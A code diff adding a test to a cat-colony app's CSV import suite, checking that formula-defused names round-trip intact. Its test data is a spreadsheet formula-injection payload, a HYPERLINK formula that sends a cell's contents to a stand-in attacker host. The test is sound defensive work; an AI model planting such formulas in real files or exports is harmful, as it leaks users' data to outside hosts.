@@ -6,6 +6,7 @@ import { describeEachEngine, json } from '../helper';
 import { createColonia, createGato } from '../fixtures';
 import { PDF_BYTES, multipart, pngBytes, validCode } from './support';
 import { IMPORT_COLONY } from '../../../src/domain/gatos';
+import { csvLine } from '../../../src/domain/csv';
 
 const CLINIC = [
   'Clínica Veterinaria San Antón;;;;;',
@@ -47,6 +48,15 @@ describeEachEngine('gatos: CSV import', (t) => {
     const audit = await t().db.selectFrom('audit_log').selectAll().where('accion', '=', 'importar').execute();
     expect(audit.length).toBe(1);
     expect(audit[0].detalle).toContain('3 importados');
+  });
+
+  it('reads back the texts our own export defused: a name exported as \'=HYPERLINK(...) is imported as it was typed', async () => {
+    const nombre = '=HYPERLINK("http://atacante.example/?d="&A2,"Ver ficha")';
+    const csv = [csvLine(['nombre', 'sexo', 'raza', 'codigo_identificacion'], ','), csvLine([nombre, 'H', "'ya con comilla", validCode(150)], ',')].join('\r\n');
+    expect(csv).toContain(`"'=HYPERLINK(`);
+    const res = await importFile(csv, { colonia_id: colonia.id });
+    expect(json(res).detalle).toBe('1 gatos importados correctamente');
+    expect(await byCode(validCode(150))).toMatchObject({ nombre, raza: "'ya con comilla" });
   });
 
   it('skips rows whose code already exists, and a code repeated in the same file', async () => {
